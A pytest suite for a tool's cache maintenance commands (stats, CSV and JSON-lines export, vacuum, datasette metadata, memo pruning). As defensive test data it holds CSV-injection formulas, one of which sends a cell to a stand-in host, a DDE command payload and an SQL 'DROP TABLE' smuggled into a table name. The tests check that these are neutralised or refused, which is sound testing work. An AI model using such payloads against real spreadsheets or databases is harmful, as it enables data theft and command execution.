"""cache stats, export and vacuum; the datasette metadata, checked in a real datasette."""

from __future__ import annotations

import base64
import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cache import CacheError, Store
from cache.maintenance import export, export_names, one_line, prune_memos, stats, vacuum
from cache.metadata import HELPER_VIEWS, TABLES, VIEWS, metadata, write_metadata
from tests.blankstore import blank_store
from tests.corpusdb import populate


@pytest.fixture
def store(tmp_path: Path) -> Store:
    """The corpus (tests/corpusdb.py) recorded into a copy of an empty cache (tests/blankstore.py: the cache a new
    `Store` makes, 4 ms of CPU against 16; how a cache is made is test_store's and test_blankstore's to check, #14)."""
    store = blank_store(tmp_path / "corpus.db")
    populate(store)
    return store


def test_stats_count_the_tables_people_read(store: Store) -> None:
    found = stats(store)
    assert found["tables"]["articles"] == 3 and found["tables"]["embeds"] == 8
    assert not any("_fts" in name for name in found["tables"]) and "_sqlite_migrations" not in found["tables"]
    assert found["full_text"] == {"posts": "posts_fts", "embeds": "embeds_fts"}
    assert "at_risk_embeds" in found["views"] and found["bytes"] > 0


def test_export_a_table_as_csv_and_a_view_as_json_lines(store: Store) -> None:
    out = io.StringIO()
    assert export(store, "credits", out, fmt="csv") == 4
    table = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["raw"] for r in table] == ["Photo: Reuters", "(Reuters)", "REUTERS photo", "Photo by Cy"]
    out = io.StringIO()
    export(store, "credits_by_organization", out, fmt="jsonl")
    assert [json.loads(line) for line in out.getvalue().splitlines()][0] == {
        "organization": "Reuters", "agency": "Reuters", "names_as_written": '["Reuters","reuters"]', "credits": 3,
        "articles": 2, "creators": 2, "uncertain": 0}


def test_export_of_credits_says_which_split_is_a_guess(tmp_path: Path) -> None:
    """#11: `cache export credits` carries each credit's split_confidence (empty for one recorded without it)."""
    from tests.corpusdb import article, credit

    store = Store(tmp_path / "c.db")
    article(store, "a.html", [], [{**credit("Photo: Berkeley Quux", None, "Berkeley Quux", 0),
                                   "split_confidence": "uncertain"},
                                  credit("Photo: Reuters", "Reuters", None, 1)])
    out = io.StringIO()
    export(store, "credits", out, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["creator"], r["split_confidence"]) for r in rows] == [("Berkeley Quux", "uncertain"), ("", "")]


def test_export_writes_blobs_as_base64(store: Store) -> None:
    out = io.StringIO()
    export(store, "bodies", out, fmt="jsonl")
    (body,) = [json.loads(line) for line in out.getvalue().splitlines()]
    assert body["data"]["$base64"] is True
    import zlib

    assert zlib.decompress(base64.b64decode(body["data"]["encoded"])) == b'{"id_str": "1"}'


def test_export_refuses_names_that_are_not_tables_or_views(store: Store) -> None:
    with pytest.raises(CacheError) as error:
        export(store, "posts; DROP TABLE posts", io.StringIO())
    assert str(error.value).startswith(f"no table or view named 'posts; DROP TABLE posts' in {store.path}; choose one of: ")
    assert "posts_fts" not in export_names(store) and "at_risk_embeds" in export_names(store)
    with pytest.raises(CacheError, match="unknown export format 'xml'; use csv or jsonl"):
        export(store, "posts", io.StringIO(), fmt="xml")


def test_vacuum_keeps_every_row_and_the_search_index(store: Store) -> None:
    before = stats(store)["tables"]
    store.db["embeds"].delete_where("article_id = 3")
    size_before, size_after = vacuum(store)
    assert size_after <= size_before
    assert stats(store)["tables"]["articles"] == before["articles"]
    assert [r["author_handle"] for r in store.db["posts"].search("harbour")] == ["alice"]


def test_every_table_and_column_is_described(store: Store) -> None:
    """A new column needs its sentence here: an editor reading the data in datasette sees it."""
    for name in stats(store)["tables"]:
        assert name in TABLES, name
        assert {c.name for c in store.db[name].columns} == set(TABLES[name][1]), name
    assert set(VIEWS) | set(HELPER_VIEWS) == set(store.db.view_names())


def test_metadata_describes_every_column_of_the_views_too(store: Store) -> None:
    """The README promises a description of every table, view and column: the views' columns had none, so datasette
    showed `embeds_checked` or `dead_percent` with nothing to say what they count."""
    tables = metadata(store)["databases"]["corpus"]["tables"]
    for view in store.db.view_names():
        assert set(tables[view].get("columns", {})) == {c.name for c in store.db[view].columns}, view


def test_metadata_is_written_next_to_the_database(store: Store) -> None:
    path = write_metadata(store)
    assert path == store.path.parent / "metadata.json"
    data = json.loads(path.read_text())
    assert data["databases"]["corpus"]["tables"]["posts"]["fts_table"] == "posts_fts"
    assert data == metadata(store)


def test_datasette_serves_the_views_with_their_descriptions(store: Store) -> None:
    import asyncio

    from datasette.app import Datasette

    described = metadata(store)
    store.close()

    async def browse() -> tuple[list, str, list]:
        ds = Datasette([str(store.path)], metadata=described)
        view = await ds.client.get("/corpus/gone_accounts_most_cited.json?_shape=array")
        page = await ds.client.get("/corpus/at_risk_embeds")
        search = await ds.client.get("/corpus/posts.json?_search=harbour&_shape=array")
        assert view.status_code == page.status_code == search.status_code == 200
        return view.json(), page.text, search.json()

    rows, page, found = asyncio.run(browse())
    assert rows[0]["handle"] == "gone_account" and rows[0]["articles"] == 3
    assert VIEWS["at_risk_embeds"].split(":")[0] in page
    assert [r["author_handle"] for r in found] == ["alice"]


def test_cache_commands_from_the_command_line(store: Store, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from resolver.cli import cli

    store.close()

    def run(*args: str):
        result = CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), *args])
        assert result.exit_code == 0, result.output
        return result

    assert json.loads(run("cache", "stats", "--json").stdout)["tables"]["credits"] == 4
    run("cache", "export", "at_risk_embeds", "-o", str(tmp_path / "risk.csv"))
    assert len(list(csv.DictReader((tmp_path / "risk.csv").open()))) == 7
    assert len(run("cache", "export", "posts", "--format", "jsonl").stdout.splitlines()) == 6
    assert " MB -> " in run("cache", "vacuum").stdout
    run("cache", "metadata")
    assert json.loads((tmp_path / "metadata.json").read_text())["databases"]["corpus"]
    views = [json.loads(line) for line in run("stats", "--json", "--limit", "1").stdout.splitlines()]
    # every view with rows (the fixture's articles were read without an unsure guess: unsure_encodings has none)
    assert [v["view"] for v in views] == [v for v in VIEWS if v != "unsure_encodings"] and views[1]["handle"] == \
        "gone_account"
    assert "gone_accounts_most_cited (1 of 2 rows)" in run("stats", "--limit", "1").stdout
    bad = CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), "cache", "export", "nope"])
    # a value the argument cannot take: exit 2, as for the other commands' (newuser30 #11: it was 1), in one line
    assert bad.exit_code == 2 and bad.output.startswith("error: no table or view named 'nope'")
    assert len(bad.output.splitlines()) == 1 and "Traceback" not in bad.output


@pytest.mark.parametrize("args", [["stats"], ["stats", "--json"], ["cache", "stats"], ["cache", "stats", "--json"],
                                  ["cache", "export", "articles"], ["cache", "vacuum"], ["cache", "metadata"],
                                  ["cache", "prune", "--memos"]],
                         ids=["stats", "stats-json", "cache-stats", "cache-stats-json", "export", "vacuum", "metadata",
                              "prune"])
def test_a_database_that_does_not_exist_is_an_error_not_an_empty_corpus(tmp_path: Path, args: list[str]) -> None:
    """A mistyped --db used to create an empty cache there and report a corpus of zeros, exit 0."""
    from click.testing import CliRunner

    from resolver.cli import cli

    missing = tmp_path / "corpsu.db"
    result = CliRunner().invoke(cli, ["--db", str(missing), *args])
    assert result.exit_code == 1 and result.stdout == ""
    assert result.stderr == f"error: no cache at {missing}: nothing was ever recorded there (check --db)\n"
    assert not missing.exists() and not (tmp_path / "metadata.json").exists()


def test_stats_as_json_says_on_stderr_which_views_were_cut_at_the_limit(store: Store, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from resolver.cli import cli

    store.close()
    result = CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), "stats", "--json", "--limit", "1"])
    assert result.exit_code == 0
    assert all(json.loads(line)["view"] for line in result.stdout.splitlines())
    assert "gone_accounts_most_cited: 1 of 2 rows (--limit, or `cache export gone_accounts_most_cited` for all)" \
        in result.stderr


def test_stats_json_lines_are_each_rows_columns_and_its_view_as_the_help_says(store: Store, tmp_path: Path) -> None:
    """`stats --help` said each line is "{view, row}": it is the row's own columns with "view" added, and a view
    with no rows prints none."""
    from click.testing import CliRunner

    from resolver.cli import cli

    store.close()
    result = CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), "stats", "--json"])
    first = json.loads(result.stdout.splitlines()[0])
    assert "row" not in first and set(first) == {"view"} | set(dict(Store(tmp_path / "corpus.db").db.query(
        f"SELECT * FROM [{first['view']}] LIMIT 1").__next__()))
    said = " ".join(CliRunner().invoke(cli, ["stats", "--help"]).output.split())
    assert "{view, row}" not in said
    assert 'Print each row as one JSON line: its columns, and "view" naming its view (a view with no rows prints ' \
           "none)." in said


def test_stats_says_which_at_risk_embeds_were_never_looked_up(store: Store, tmp_path: Path) -> None:
    """An embed the archive was never asked about is not known to be lost: the at-risk rows say which were asked."""
    asked, at_risk, shown = _at_risk_after_a_lookup(store, tmp_path, status=200)
    assert [(r["url"], r["looked_up"]) for r in at_risk if r["looked_up"]] == [(asked, True), (asked, True)]
    assert sum(not r["looked_up"] for r in at_risk) == 5
    assert "5 of the 7 rows shown were never looked up in the archive (unknown, not lost): " \
           "`embed-resolver scan --archive` asks" in shown


def _at_risk_after_a_lookup(store: Store, tmp_path: Path, *, status: int) -> tuple[str, list[dict], str]:
    """One at-risk embed's archive lookup recorded with `status`: (its URL, `stats --json`'s at-risk rows, `stats`'
    table as one line)."""
    from click.testing import CliRunner

    from resolver.archive import form_query, lookup_forms
    from resolver.cli import cli
    from tests.corpusdb import DELETED

    asked = f"https://twitter.com/gone_account/status/{DELETED}"
    for form in lookup_forms(asked, store):   # the lists an X post's lookup asks (archive35)
        store.record_fetch({"url": form_query(form, asked), "method": "GET", "purpose": "wayback-cdx",
                            "fetched_at": "2024-06-03T00:00:00.000000Z", "status": status, "tool_version": "test"})
    store.close()
    result = CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), "stats", "--json", "--limit", "100"])
    at_risk = [json.loads(line) for line in result.stdout.splitlines() if '"at_risk_embeds"' in line]
    shown = CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), "stats"]).stdout
    return asked, at_risk, " ".join(shown.split())


def test_stats_tells_a_failed_archive_lookup_from_none(store: Store, tmp_path: Path) -> None:
    """An at-risk embed whose archive lookup was made and failed (CDX 404) was counted as "never looked up": it was
    asked, and the answer was an error (newuser26)."""
    asked, at_risk, shown = _at_risk_after_a_lookup(store, tmp_path, status=404)
    assert [(r["looked_up"], r["lookup_error"]) for r in at_risk if r["url"] == asked] == [(False, "cdx: HTTP 404")] * 2
    assert all(r["lookup_error"] is None for r in at_risk if r["url"] != asked)
    assert "5 of the 7 rows shown were never looked up in the archive (unknown, not lost)" in shown
    assert "The lookup of 2 failed (cdx: HTTP 404): not known either" in shown


def test_exported_json_lines_are_one_line_each_whatever_a_value_holds(store: Store) -> None:
    """A value holding U+2028, U+2029 or U+0085 (valid raw in JSON) would be cut by `str.splitlines()` readers."""
    store.db.execute("UPDATE credits SET raw = ? WHERE raw = ?", ["Photo:\u2028Reuters\x85", "Photo: Reuters"])
    store.db.conn.commit()
    out = io.StringIO()
    assert export(store, "credits", out, fmt="jsonl") == 4
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert len(rows) == 4 and rows[0]["raw"] == "Photo:\u2028Reuters\x85"


# Post text is written by anyone: a cell a spreadsheet would run as a formula (OWASP "CSV injection").
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@river_desk thanks",
            "\tindented", "\rreturn", "Water on Mill Lane\r=1+1"]


def _post_with_text(store: Store, text: str) -> None:
    from tests.corpusdb import ALIVE

    store.db["posts"].update(store.post_row("twitter", ALIVE)["id"], {"text": text})


@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return",
                                                 "carriage-return-inside"])
def test_csv_export_writes_a_formula_as_text(store: Store, text: str) -> None:
    _post_with_text(store, text)
    out = io.StringIO()
    export(store, "posts", out, fmt="csv")
    cells = [r["text"] for r in csv.DictReader(io.StringIO(out.getvalue(), newline=""))]
    assert len(cells) == 6   # one row per post: a carriage return inside a text is quoted, not a new row
    assert ("'" + text in cells and text not in cells) if text.startswith(("=", "+", "-", "@", "\t", "\r")) \
        else text in cells
    raw = io.StringIO()
    export(store, "posts", raw, fmt="csv", raw=True)
    assert text in [r["text"] for r in csv.DictReader(io.StringIO(raw.getvalue(), newline=""))]
    lines = io.StringIO()
    export(store, "posts", lines, fmt="jsonl")
    assert text in [json.loads(line)["text"] for line in lines.getvalue().splitlines()]


def test_csv_export_keeps_numbers_and_empty_cells_as_they_are(store: Store) -> None:
    """Only text is neutralised: a negative number is a number (a spreadsheet reads it as one, not as a formula)."""
    store.db["figures"].insert({"n": -1, "f": -2.5, "s": "-3", "e": "", "z": None, "b": b"\xfb\xef"})
    out = io.StringIO()
    export(store, "figures", out, fmt="csv")
    assert out.getvalue().splitlines()[1] == "-1,-2.5,'-3,,,'++8="


def test_cache_export_raw_from_the_command_line(store: Store, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from resolver.cli import cli

    _post_with_text(store, "=1+1")
    store.close()
    base = ["--db", str(tmp_path / "corpus.db"), "cache", "export", "posts"]
    safe, raw = CliRunner().invoke(cli, base), CliRunner().invoke(cli, [*base, "--raw"])
    assert safe.exit_code == raw.exit_code == 0, safe.output + raw.output
    assert "'=1+1" in [r["text"] for r in csv.DictReader(io.StringIO(safe.stdout))]
    assert "=1+1" in [r["text"] for r in csv.DictReader(io.StringIO(raw.stdout))]
    assert "--raw" in CliRunner().invoke(cli, ["cache", "export", "--help"]).output


def test_stats_counts_one_row_in_the_singular(store: Store, tmp_path: Path) -> None:
    """`stats` printed "(1 rows)" over a view of one row, and "1 of the 1 rows shown were never looked up"."""
    from click.testing import CliRunner

    from resolver.cli import cli

    store.conn.execute("DELETE FROM credits WHERE organization IS NULL OR organization != 'Reuters'")
    store.conn.commit()
    assert store.conn.execute("SELECT count(*) FROM credits_by_organization").fetchone()[0] == 1
    store.close()
    shown = " ".join(CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), "stats", "--limit", "1"]).stdout
                     .split())
    assert "credits_by_organization (1 row)" in shown and "at_risk_embeds (1 of 7 rows)" in shown
    assert "The 1 row shown was never looked up in the archive (unknown, not lost)" in shown
    assert "rows)" not in shown.replace("of 7 rows)", "").replace("of 6 rows)", "").replace("of 2 rows)", "") \
        .replace("unsure_encodings (0 rows)", "").replace("(no rows)", "")


# Text with lone surrogates: what json.loads gives for "\\ud83d", a post's text cut in the middle of an emoji.
CUT_TEXT = st.text(alphabet=st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF, blacklist_categories=())
                   | st.characters())


@given(st.dictionaries(CUT_TEXT, CUT_TEXT | st.lists(CUT_TEXT), max_size=3))
def test_a_json_line_with_a_lone_surrogate_is_utf8_and_means_the_same(data: dict) -> None:
    """A lone surrogate cannot be written as UTF-8: left raw, it ended a whole `scan --json` run (and an export)
    with a UnicodeEncodeError. It is escaped, so the line reads back as the same text (a high and a low surrogate
    side by side read back as the character they make together, as any JSON reader reads them)."""
    line = one_line(json.dumps(data, ensure_ascii=False))
    line.encode("utf-8")
    assert "\n" not in line
    assert json.loads(line) == json.loads(json.dumps(data))   # json.dumps escapes each surrogate


# -- warm-run memos (#13): pruned on demand, counted by stats ------------------------------------------------------

def with_memos(store: Store) -> None:
    """Three memos of two articles, made long ago, 10 days ago and now; two with their keys."""
    ids = [row[0] for row in store.conn.execute("SELECT id FROM articles ORDER BY id LIMIT 2")]
    for article_id, key, reads in ((ids[0], "old", ["posts twitter 1", "resolutions u"]), (ids[0], "recent", []),
                                   (ids[1], "new", ["posts twitter 2"])):
        store.keep_step_memo(article_id, key, (None, None, 0, 0, '{"resolutions": []}'), reads)
    for key, made in (("old", "2000-01-01T00:00:00.000000Z"), ("recent", utc_days_ago(10))):
        store.conn.execute("UPDATE step_memos SET made_at = ? WHERE key = ?", [made, key])
    store.conn.commit()


def utc_days_ago(days: float) -> str:
    from datetime import datetime, timedelta, timezone

    return (datetime.now(timezone.utc) - timedelta(days=days)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def memo_rows(store: Store) -> tuple[list[str], int]:
    return ([key for (key,) in store.conn.execute("SELECT key FROM step_memos ORDER BY id")],
            store.conn.execute("SELECT count(*) FROM step_memo_keys").fetchone()[0])


def other_rows(store: Store) -> dict[str, list[str]]:
    return {t: sorted(map(repr, store.conn.execute(f"SELECT * FROM [{t}]")))
            for t in store.db.table_names() if not t.startswith("step_memo")}


def test_prune_memos_deletes_those_made_before_the_age_given_or_all_with_their_keys_and_nothing_else(
        store: Store) -> None:
    with_memos(store)
    before = other_rows(store)
    assert prune_memos(store, older_than_days=30) == (1, 2)
    assert memo_rows(store) == (["recent", "new"], 1)
    assert prune_memos(store, older_than_days=5) == (1, 1)
    assert memo_rows(store) == (["new"], 1)
    assert prune_memos(store) == (1, 0)
    assert memo_rows(store) == ([], 0)
    assert prune_memos(store) == (0, 0)
    assert other_rows(store) == before


def test_cache_prune_memos_from_the_command_line(store: Store, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from resolver.cli import cli

    with_memos(store)
    store.close()
    db = tmp_path / "corpus.db"

    def run(*args: str):
        return CliRunner().invoke(cli, ["--db", str(db), "cache", *args])

    done = run("prune", "--memos", "--older-than", "30", "--json")
    assert done.exit_code == 0 and json.loads(done.stdout) == {
        "path": str(db), "memos_deleted": 1, "memos_left": 2, "older_than_days": 30.0}
    done = run("prune", "--memos")
    assert done.exit_code == 0 and done.stdout == f"{db}: 2 memos deleted, 0 left\n"
    done = run("prune", "--memos", "--older-than", "1.5")
    assert done.exit_code == 0 and done.stdout == f"{db}: 0 memos made more than 1.5 days ago deleted, 0 left\n"
    refused = run("prune")
    assert refused.exit_code == 2 and "say what to prune: --memos" in refused.stderr
    for age in ("-1", "nan", "inf"):
        refused = run("prune", "--memos", "--older-than", age)
        assert refused.exit_code == 2 and "--older-than" in refused.stderr, refused.output


def test_prune_memos_older_than_any_date_deletes_none(store: Store) -> None:
    """An age past the year 1 (a typo's 1e12 days) was an OverflowError."""
    with_memos(store)
    assert prune_memos(store, older_than_days=1e12) == (0, 3)


def test_stats_say_how_many_memos_there_are_and_what_they_take(store: Store, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from resolver.cli import cli

    assert stats(store)["memos"] == {"count": 0, "keys": 0, "bytes": stats(store)["memos"]["bytes"]}
    empty = stats(store)["memos"]["bytes"]
    with_memos(store)
    found = stats(store)["memos"]
    assert found["count"] == 3 and found["keys"] == 3 and found["bytes"] >= empty > 0
    store.close()
    shown = CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), "cache", "stats"]).stdout
    assert f"memos: 3 (with their keys and indexes {found['bytes'] / 2**10:,.1f} KB; `cache prune --memos` " \
           "deletes them)\n" in shown


def test_enc30_the_cache_keeps_which_articles_were_read_with_an_unsure_guess(tmp_path: Path) -> None:
    """The rival of an unsure encoding guess was shown by the scan and the report, which read the bytes again, but
    not kept: `stats`, `cache stats` and `cache export` could not say which articles were read so. Each article's
    row now keeps it (`articles.encoding_rival`: the rival, '' when none, NULL in a record made before v30: not
    recorded), `stats` lists them (the unsure_encodings view), `cache stats` counts them."""
    import sqlite3

    from click.testing import CliRunner

    from resolver.cli import cli

    (tmp_path / "cz.txt").write_bytes("Koncert. (Foto: Antonín Dvořák)\n".encode("cp1250"))
    (tmp_path / "fr.txt").write_bytes("Le café était fermé, dit Zoë Núñez.\n".encode("cp1252"))
    (tmp_path / "en.txt").write_bytes(b"Plain words.\n")
    db = str(tmp_path / "c.db")

    def run(*args: str) -> str:
        result = CliRunner().invoke(cli, ["--db", db, *args])
        assert result.exit_code == 0, result.output
        return result.stdout

    run("scan", "--offline", str(tmp_path / "cz.txt"), str(tmp_path / "fr.txt"), str(tmp_path / "en.txt"))
    with sqlite3.connect(db) as conn:
        kept = dict(conn.execute("SELECT first_source, encoding || ' / ' || encoding_rival FROM articles"))
    assert {Path(source).name: said for source, said in kept.items()} == {
        "cz.txt": "cp1252 / cp1250", "fr.txt": "cp1252 / ", "en.txt": "utf-8 / "}
    [row] = [json.loads(line) for line in run("stats", "--json").splitlines()
             if json.loads(line)["view"] == "unsure_encodings"]
    assert (Path(row["article"]).name, row["encoding"], row["encoding_rival"]) == ("cz.txt", "cp1252", "cp1250")
    assert "unsure_encodings (1 row)" in run("stats")
    report = run("report", "--offline", "--format", "html", str(tmp_path / "cz.txt"))
    # enc31: every rival is named (ISO-8859-16 reads "Dvořák" as a Hungarian-looking "Dvoűák" as plausibly)
    assert "the encoding was guessed (cp1252; unsure: cp1250 and iso8859_16 read it otherwise)" in report
    exported = run("cache", "export", "unsure_encodings", "--format", "jsonl").splitlines()
    assert [json.loads(line)["encoding_rival"] for line in exported] == ["cp1250"]
    counted = json.loads(run("cache", "stats", "--json"))["encodings_guessed"]
    assert counted == {"guessed": 2, "unsure": 1, "not_recorded": 0}
    assert "encodings guessed: 2, unsure 1 (`stats` lists them)" in run("cache", "stats")

    # A record made before v30 did not keep the rival: NULL, not known, never counted as sure
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE articles SET encoding_rival = NULL WHERE first_source LIKE '%fr.txt'")
    counted = json.loads(run("cache", "stats", "--json"))["encodings_guessed"]
    assert counted == {"guessed": 2, "unsure": 1, "not_recorded": 1}
    assert "encodings guessed: 2, unsure 1, 1 not recorded (read before v30)" in run("cache", "stats")

    # The user names the encoding: no longer a guess, no rival
    run("scan", "--offline", "--encoding", "cp1250", str(tmp_path / "cz.txt"))
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT encoding, encoding_rival FROM articles WHERE first_source LIKE '%cz.txt'"
                            ).fetchone() == ("cp1250", "")
    assert json.loads(run("cache", "stats", "--json"))["encodings_guessed"] == {
        "guessed": 1, "unsure": 0, "not_recorded": 1}


def test_enc31_every_rival_of_an_unsure_guess_is_shown_kept_and_listed(tmp_path: Path) -> None:
    """Three or more readings may fit as well: short Greek "Ναι" in cp1253 is read as cp1252's "Íáé", and cp1251's
    "Нбй" and cp1253's "Ναι" fit as well. One rival was shown and kept (cp1251), and the right one was named nowhere:
    a user giving --encoding to the one named saw another wrong text, and nothing said there were more. Every rival is
    now in the scan's JSON (`encoding_rivals`, the likeliest first), the report's line, the cache's row
    (`articles.encoding_rivals`, a JSON list; '[]' when sure, NULL when not recorded) and the unsure_encodings view."""
    import sqlite3

    from click.testing import CliRunner

    from resolver.cli import cli

    (tmp_path / "gr.txt").write_bytes("Ναι\n".encode("cp1253"))
    (tmp_path / "cz.txt").write_bytes("Koncert. (Foto: Antonín Dvořák)\n".encode("cp1250"))
    (tmp_path / "fr.txt").write_bytes("Le café était fermé, dit Zoë Núñez.\n".encode("cp1252"))
    db = str(tmp_path / "c.db")

    def run(*args: str) -> str:
        result = CliRunner().invoke(cli, ["--db", db, *args])
        assert result.exit_code == 0, result.output
        return result.stdout

    scanned = {Path(line["source"]).name: line for line in map(json.loads, run(
        "scan", "--offline", "--json", *(str(tmp_path / name) for name in ("gr.txt", "cz.txt", "fr.txt"))
    ).splitlines()) if "source" in line}
    greek = scanned["gr.txt"]
    assert greek["encoding"] == "cp1252" and "cp1253" in greek["encoding_rivals"]
    assert greek["encoding_rival"] == greek["encoding_rivals"][0] and len(greek["encoding_rivals"]) >= 2
    assert (scanned["cz.txt"]["encoding_rivals"], scanned["fr.txt"]["encoding_rivals"]) == (["cp1250", "iso8859_16"],
                                                                                            [])
    with sqlite3.connect(db) as conn:
        kept = {Path(source).name: (rival, json.loads(rivals)) for source, rival, rivals in conn.execute(
            "SELECT first_source, encoding_rival, encoding_rivals FROM articles")}
    assert kept == {"gr.txt": (greek["encoding_rival"], greek["encoding_rivals"]), "cz.txt": ("cp1250", ["cp1250", "iso8859_16"]),
                    "fr.txt": ("", [])}
    rows = {Path(row["article"]).name: row for row in map(json.loads, run("stats", "--json").splitlines())
            if row["view"] == "unsure_encodings"}
    assert json.loads(rows["gr.txt"]["encoding_rivals"]) == greek["encoding_rivals"]
    report = run("report", "--offline", "--format", "md", str(tmp_path / "gr.txt"))
    rivals = greek["encoding_rivals"]   # 6: the first 5 named, the others counted
    assert len(rivals) == 6
    assert (f"the encoding was guessed (cp1252; unsure: {', '.join(rivals[:5])} and 1 other encoding read it "
            f"otherwise)") in report
    report = run("report", "--offline", "--format", "md", str(tmp_path / "fr.txt"))
    assert "the encoding was guessed (cp1252): no charset" in report

    # The user names the encoding: no longer a guess, no rivals
    run("scan", "--offline", "--encoding", "cp1253", str(tmp_path / "gr.txt"))
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT encoding, encoding_rival, encoding_rivals FROM articles WHERE first_source "
                            "LIKE '%gr.txt'").fetchone() == ("cp1253", "", "[]")


@pytest.mark.parametrize("rivals, said", [
    ((), "cp1252"),
    (("cp1250",), "cp1252; unsure: cp1250 reads it otherwise"),
    (("cp1250", "iso8859_16"), "cp1252; unsure: cp1250 and iso8859_16 read it otherwise"),
    (("a", "b", "c", "d", "e"), "cp1252; unsure: a, b, c, d and e read it otherwise"),
    (("a", "b", "c", "d", "e", "f", "g"), "cp1252; unsure: a, b, c, d, e and 2 other encodings read it otherwise"),
], ids=["sure", "one", "two", "five", "seven"])
def test_enc31_a_guess_names_its_rivals_and_counts_those_past_five(rivals: tuple[str, ...], said: str) -> None:
    from resolver.report import guessed

    assert guessed("cp1252", rivals) == said


def test_stats_says_as_of_when_the_post_statuses_it_counts_were_observed(store: Store, tmp_path: Path) -> None:
    """newuser32c #4: no figure said as of when, and a re-run within cache_ttl silently kept last week's status.
    The statuses counted are each post's latest answer (by its source's time): `stats` says their span, and how
    many are older than cache_ttl, which a run re-checks only after that or with --refresh."""
    from datetime import UTC, datetime, timedelta

    from click.testing import CliRunner

    from resolver.cli import cli

    rows = list(store.db.query("SELECT id, last_observed_at FROM posts WHERE status NOT IN ('error', 'unknown') "
                               "AND last_observed_at IS NOT NULL ORDER BY id"))
    # the times of the posts' answers (their observations), which the posts' last observation follows; the newest
    # a day ago (an answer dated after now is no time: review34r5)
    recent = datetime.now(UTC) - timedelta(days=1)
    store.db.execute("UPDATE post_observations SET observed_at = ? WHERE post_row = ?",
                     ["2024-06-01T08:00:00.000000Z", rows[0]["id"]])
    store.db.execute("UPDATE post_observations SET observed_at = ? WHERE post_row != ? AND observed_at IS NOT NULL",
                     [recent.strftime("%Y-%m-%dT%H:%M:%S.%fZ"), rows[0]["id"]])
    store.db.conn.commit()
    store.close()
    shown = CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), "stats"])
    said = " ".join(shown.stdout.split())
    newest = recent.strftime("%Y-%m-%d %H:%M")
    assert (f"Post statuses counted as observed from 2024-06-01 08:00 to {newest} UTC (each post's latest "
            f"answer, {len(rows)} posts); 1 is older than cache_ttl (30 days): a run asks again for a post only after "
            "that, or with --refresh." in said), said
    as_json = CliRunner().invoke(cli, ["--db", str(tmp_path / "corpus.db"), "stats", "--json"])
    assert all(json.loads(line)["view"] for line in as_json.stdout.splitlines())   # rows only on stdout
    assert f"Post statuses counted as observed from 2024-06-01 08:00 to {newest} UTC" in as_json.stderr


def test_fixnu35e_cache_export_to_dash_writes_stdout(store: Store, tmp_path: Path, monkeypatch) -> None:
    """newuser35c #4 (#13): `cache export VIEW -o -` wrote a file named "-" and said "wrote 2 rows … to -";
    everywhere else "-" is stdin or stdout (`resolve -`, `scan -`). Now it writes to stdout, as without -o."""
    from click.testing import CliRunner

    from resolver.cli import cli

    store.close()
    monkeypatch.chdir(tmp_path)
    base = ["--db", str(tmp_path / "corpus.db"), "cache", "export", "posts", "--format", "jsonl"]
    plain, dash = CliRunner().invoke(cli, base), CliRunner().invoke(cli, [*base, "-o", "-"])
    assert dash.exit_code == 0, dash.output
    assert dash.stdout == plain.stdout and len(dash.stdout.splitlines()) == 6
    assert not (tmp_path / "-").exists() and "wrote" not in dash.output
